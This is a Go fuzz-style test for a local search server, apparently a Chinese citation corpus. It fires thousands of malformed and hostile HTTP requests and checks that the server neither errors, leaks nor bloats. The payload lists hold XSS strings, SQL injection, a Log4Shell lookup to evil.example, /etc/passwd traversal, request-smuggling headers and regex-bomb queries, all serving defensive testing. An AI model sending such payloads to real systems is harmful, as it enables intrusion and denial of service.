package main

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"maps"
	"math/rand/v2"
	"net"
	"net/http"
	"net/url"
	"os"
	"regexp"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"go.uber.org/goleak"

	"suoyin/web/keys"
)

// TestHostileRequests sends requests that nobody means well with: to every
// address and to none, with every method, with wrong, huge and cut off headers
// and bodies. Nothing may be answered with an internal error, and afterwards the
// server has no goroutine and hardly a byte more than before, and still answers.
//
// SUOYIN_LONG=10000 sends as many as that.
func TestHostileRequests(t *testing.T) {
	n := 400
	if long, err := strconv.Atoi(os.Getenv("SUOYIN_LONG")); err == nil && long > 0 {
		n = long
	}
	data := manyBridges(t, 20)
	before := goleak.IgnoreCurrent()
	var log errorLog
	s, err := newServer(t.Context(), serveCommand{dataFlag: dataFlag{Data: data}, Addr: "127.0.0.1:0"}, slog.New(&log))
	if err != nil {
		t.Fatal(err)
	}
	ctx, stop := context.WithCancel(t.Context())
	done := make(chan error, 1)
	go func() { done <- s.Run(ctx) }()
	askedUntilAnswered(t, s.URL(), "第7座桥")
	seed := uint64(time.Now().UnixNano())
	t.Logf("seed %d", seed)
	_, key, err := openKeys(data).Add("somebody", keys.Write)
	if err != nil {
		t.Fatal(err)
	}
	described := describedPaths(t, s.URL())
	attack := func(n int, seed uint64) {
		t.Helper()
		attack(t, s.listener.Addr().String(), n, func(worker int) hostile {
			return hostile{rand.New(rand.NewPCG(seed, uint64(worker))), described, key}
		})
	}
	attack(n/8+1, seed) // what is kept for good is there after it
	small := heap()
	attack(n, seed+1)
	if grown := int64(heap()) - int64(small); grown > 24<<20 {
		t.Errorf("%d requests left %d KB of memory", n, grown>>10)
	} else {
		t.Logf("%d requests: memory changed by %d KB", n, grown>>10)
	}
	if status, total := asked(t, s.URL(), "第7座桥"); status != http.StatusOK || total == 0 {
		t.Errorf("after it: status %d, %d hits", status, total)
	}
	http.DefaultClient.CloseIdleConnections()
	stop()
	if err := <-done; err != nil {
		t.Error(err)
	}
	if err := s.Close(); err != nil {
		t.Error(err)
	}
	goleak.VerifyNone(t, before)
	if lines := log.take(); len(lines) > 0 {
		t.Errorf("%d errors were logged, the first: %s", len(lines), lines[0])
	}
}

// heap is how much memory is in use.
func heap() uint64 {
	var m runtime.MemStats
	runtime.GC()
	runtime.GC() // what pools hold goes with the second one
	runtime.ReadMemStats(&m)
	return m.HeapAlloc
}

// errorLog keeps what is logged as an error, but for requests that were given
// up because they took too long.
type errorLog struct {
	mu    sync.Mutex
	lines []string
}

func (l *errorLog) Enabled(_ context.Context, level slog.Level) bool { return level >= slog.LevelError }
func (l *errorLog) WithAttrs([]slog.Attr) slog.Handler               { return l }
func (l *errorLog) WithGroup(string) slog.Handler                    { return l }

func (l *errorLog) Handle(_ context.Context, r slog.Record) error {
	text := r.Message
	r.Attrs(func(a slog.Attr) bool {
		text += " " + a.String()
		return true
	})
	l.mu.Lock()
	defer l.mu.Unlock()
	if !strings.Contains(text, context.DeadlineExceeded.Error()) && !strings.Contains(text, "too many requests") {
		l.lines = append(l.lines, text)
	}
	return nil
}

func (l *errorLog) take() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.lines
}

// attack sends n requests, some at a time.
func attack(t *testing.T, address string, n int, sender func(worker int) hostile) {
	t.Helper()
	var senders sync.WaitGroup
	var mu sync.Mutex
	statuses := map[int]int{}
	for worker := range 8 {
		senders.Go(func() {
			h := sender(worker)
			for range (n + 7) / 8 {
				request, sound := h.request()
				status, header, err := send(t.Context(), address, request)
				mu.Lock()
				statuses[status]++
				mu.Unlock()
				switch {
				case err != nil && sound:
					t.Errorf("%.300q: no answer: %v", request, err)
				case status == http.StatusServiceUnavailable && header.Get("Retry-After") == "":
					t.Errorf("%.300q: refused without saying when to come back", request)
				case status >= 500 && !slices.Contains([]int{501, 503, 505}, status):
					t.Errorf("%.1000q: status %d", request, status)
				}
			}
		})
	}
	senders.Wait()
	t.Logf("answers by status, 0 is none: %v", statuses)
}

// send writes a request as it is and reads the head of the answer.
func send(ctx context.Context, address, request string) (status int, header http.Header, err error) {
	c, err := (&net.Dialer{}).DialContext(ctx, "tcp", address)
	if err != nil {
		return 0, nil, err
	}
	defer c.Close()
	if err := c.SetDeadline(time.Now().Add(2 * time.Minute)); err != nil {
		return 0, nil, err
	}
	written := make(chan struct{})
	go func() {
		defer close(written)
		io.WriteString(c, request) // the server may have had enough before the end
		c.(*net.TCPConn).CloseWrite()
	}()
	res, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err == nil {
		_, err = io.Copy(io.Discard, res.Body)
		res.Body.Close()
		status, header = res.StatusCode, res.Header
	}
	c.Close()
	<-written
	if status != 0 { // how the connection ended after an answer does not matter
		err = nil
	}
	return status, header, err
}

// describedPaths are the paths of the API's description.
func describedPaths(t *testing.T, base string) []string {
	t.Helper()
	var description struct {
		Paths map[string]any `json:"paths"`
	}
	if err := json.Unmarshal([]byte(get(t, base+"/openapi.json", http.StatusOK)), &description); err != nil {
		t.Fatal(err)
	}
	if len(description.Paths) < 10 {
		t.Fatalf("only %d paths described", len(description.Paths))
	}
	return slices.Sorted(maps.Keys(description.Paths))
}

// hostile makes requests.
type hostile struct {
	*rand.Rand
	described []string
	// key may write: some of the harm is done by those who have one.
	key string
}

func pick[T any](h hostile, list ...T) T { return list[h.IntN(len(list))] }

// request is one request; sound says that it is whole HTTP and must be answered.
func (h hostile) request() (text string, sound bool) {
	if h.IntN(12) == 0 {
		return h.garbage(), false
	}
	method := pick(h, "GET", "GET", "GET", "GET", "HEAD", "POST", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "FOO")
	body := ""
	if method == "POST" || method == "PUT" || method == "PATCH" || h.IntN(20) == 0 {
		body = h.body()
	}
	headers, sound := h.headers(body)
	return method + " " + h.target() + " HTTP/1.1\r\nHost: " + pick(h, "localhost", "evil.example", "127.0.0.1:1", "[::1]", "a:b") + "\r\n" + headers + "\r\n" + body, sound
}

// garbage is no HTTP, or hardly.
func (h hostile) garbage() string {
	return pick(h,
		"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", // a TLS greeting
		"GET / HTTP/9.9\r\n\r\n", "GET /\r\n\r\n", "GET  /  HTTP/1.1\r\n\r\n", "\r\n\r\n\r\n", "GET / HTTP/1.1\r\n\r\n", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
		"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n", "GET / HTTP/1.1\r\nHost: a\r\n folded\r\n\r\n", "GET / HTTP/1.1\r\nHost: a\r\nX: \x00\r\n\r\n",
		"POST /cite HTTP/1.1\r\nHost: a\r\nContent-Length: 10\r\nContent-Length: 20\r\n\r\nabc",
		"POST /cite HTTP/1.1\r\nHost: a\r\nContent-Length: 99999999999999999999\r\n\r\nabc",
		"POST /cite HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\nabc",
		"POST /cite HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\n",
		"POST /cite HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\nzz\r\n",
		"POST /api/v1/cite HTTP/1.1\r\nHost: a\r\nContent-Length: 1000\r\n\r\nonly this", // and then nothing
		"POST /api/v1/cite HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: gzip\r\n\r\nabc",
		"GET /"+strings.Repeat("a", 70<<10)+" HTTP/1.1\r\nHost: a\r\n\r\n",
		"GET / HTTP/1.1\r\nHost: a\r\n"+strings.Repeat("X-Many: y\r\n", 8000)+"\r\n",
		string(h.bytes(1+h.IntN(3000))),
	)
}

func (h hostile) bytes(n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(h.Uint32())
	}
	return b
}

// placeholder stands for a part of a described path.
var placeholder = regexp.MustCompile(`\{[^}]*\}`)

// target is an address, with parameters that it knows and that it does not.
func (h hostile) target() string {
	path := pick(h,
		"/", "/search", "/search.atom", "/sitemap.xml", "/articles", "/articles/"+h.segment(), "/works", "/works/"+h.segment(), "/cite", "/help", "/about", "/docs",
		"/corpus", "/authors/"+h.segment(), "/journals/"+h.segment(), "/admin", "/admin/"+h.segment(), "/metrics", "/debug/pprof/", "/debug/pprof/heap",
		"/healthz", "/readyz", "/robots.txt", "/opensearch.xml", "/openapi.json", "/static/"+h.segment(), "/favicon.ico",
		"/api/v1/search", "/api/v1/search", "/api/v1/search", "/api/v1/search/export", "/api/v1/suggest", "/api/v1/variants", "/api/v1/frequencies",
		"/api/v1/collocates", "/api/v1/keywords", "/api/v1/articles", "/api/v1/articles/"+h.segment(), "/api/v1/articles/"+h.segment()+"/source",
		"/api/v1/articles/"+h.segment()+"/export", "/api/v1/citations", "/api/v1/cite", "/api/v1/works", "/api/v1/works/"+h.segment(),
		"/api/v1/works/"+h.segment()+"/export", "/api/v1/locate", "/api/v1/formats", "/api/v1/keys", "/api/v1/uploads", "/api/v1/uploads/"+h.segment(),
		"/api/v1/jobs", "/api/v1/rebuild", "/api/v1/verify", "/api/v1/dictionary", "/api/v1/analyze", "/api/v1/explain", "/api/v1/"+h.segment(), "/"+h.segment(),
		"//", "/../../etc/passwd", "/articles//", "http://evil.example/search?q=a", "*",
	)
	if h.IntN(3) == 0 {
		path = placeholder.ReplaceAllStringFunc(pick(h, h.described...), func(string) string { return h.segment() })
	}
	if h.IntN(5) == 0 {
		return path
	}
	var pairs []string
	for range h.IntN(5) {
		name := pick(h, "q", "q", "q", "in", "sort", "limit", "cursor", "view", "width", "order", "group", "start", "format", "of", "text", "title",
			"year", "kind", "author", "article", "as_printed", "lang", "neighbours", "only", "conflicts", "page", "typed", h.text())
		pairs = append(pairs, url.QueryEscape(name)+"="+pick(h, url.QueryEscape(h.text()), url.QueryEscape(h.text()), "%zz", "%", "%00"))
	}
	if h.IntN(40) == 0 {
		pairs = append(pairs, strings.Repeat("year=1&", 2000))
	}
	return path + "?" + strings.Join(pairs, pick(h, "&", "&", "&", ";"))
}

// segment is a part of a path.
func (h hostile) segment() string {
	return pick(h, "a", "..", "..%2f..%2fetc%2fpasswd", "%00", "%ff%fe", url.PathEscape(h.text()), "style.css", "%2e%2e/%2e%2e", strings.Repeat("x", 3000), "-1", "%E7%AC%AC")
}

// text is what somebody might type to do harm.
func (h hostile) text() string {
	return pick(h,
		"第7座桥", `"座桥"`, "桥", "。", "", " ", "\x00", "\xff\xfe", "\u202e\u2066", "<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "' OR 1=1 --",
		"{{.}}", "${jndi:ldap://evil.example}", "../../../../etc/passwd", "-1", "0", "999999999999999999999", "1e9", "NaN", "true", "all", "notes", "claims", "kwic", "csv", "json",
		strings.Repeat("(", 500), strings.Repeat("a OR ", 300)+"a", strings.Repeat("\"座桥\" ", 200), "/(.*)*/", "/"+strings.Repeat("(a?)", 200)+"/", "/[/", "/桥/", "/./", "/.{1000}{1000}/",
		"桥 NEAR/99999999 座", "桥 NEAR/5 座 NEAR/5 第", "桥*桥*桥*桥*桥", "???????", "-桥", "桥 -桥", "NOT NOT 桥", "作者:", "年:9999..0", "年:x..y", "页:-1", "被引作者:<b>",
		strings.Repeat("长", 1999), strings.Repeat("长", 2001), strings.Repeat("x", 20_000), "ANY/99 (桥 座)", "桥 NOT AFTER 座", string(h.bytes(40)),
	)
}

// body is what is sent along.
func (h hostile) body() string {
	return pick(h,
		"", "text="+url.QueryEscape(h.text()), h.text(), `{"text":`, `{"a":`+strings.Repeat("[", 5000), "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../x.txt\"\r\n\r\nabc\r\n--x--\r\n",
		"--x\r\n\r\n", strings.Repeat("王远：《石桥考》，北桥出版社1998年版，第3页。\n", 1+h.IntN(500)), strings.Repeat("z", 2<<20), string(h.bytes(5000)), "PK\x03\x04"+string(h.bytes(500)), "%PDF-1.7\n"+string(h.bytes(500)),
		strings.Repeat("《", 20_000), strings.Repeat("同上，", 5000),
	)
}

// headers are those of a request with a body; sound says that they are right
// about it.
func (h hostile) headers(body string) (text string, sound bool) {
	sound = true
	for range h.IntN(6) {
		text += pick(h,
			"Accept: application/json", "Accept: */*;q=abc", "Accept-Language: "+strings.Repeat("zh,", 500), "Accept-Encoding: gzip, br, *;q=0", "If-None-Match: "+strings.Repeat("\"x\",", 1000),
			"Authorization: Bearer "+h.key, "Authorization: Bearer "+h.key, "Tus-Resumable: 1.0.0\r\nUpload-Length: "+pick(h, "10", "-1", "999999999999", "x"), "Upload-Offset: "+pick(h, "0", "5", "-1"),
			"Cookie: lang="+strings.Repeat("a", 4000), "Authorization: Bearer "+strings.Repeat("A", 5000), "Authorization: Basic !!!", "X-Forwarded-For: 1.2.3.4, evil", "X-Forwarded-Proto: javascript",
			"Origin: https://evil.example", "Origin: null", "Access-Control-Request-Method: DELETE", "Range: bytes=0-0,-1,5-2", "Referer: javascript:alert(1)", "Upgrade: h2c", "Connection: Upgrade, close",
			"Expect: 100-continue", "Content-Encoding: gzip", "X-Request-Id: "+url.QueryEscape(h.text()), "X-Big: "+strings.Repeat("b", 10_000),
		) + "\r\n"
	}
	text += "Content-Type: " + pick(h, "text/plain", "application/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "multipart/form-data", "application/octet-stream", "x/y; charset=\"") + "\r\n"
	switch h.IntN(8) {
	case 0:
		sound = false
		text += fmt.Sprintf("Content-Length: %d\r\n", len(body)+1+h.IntN(100))
	default:
		text += fmt.Sprintf("Content-Length: %d\r\n", len(body))
	}
	return text, sound
}
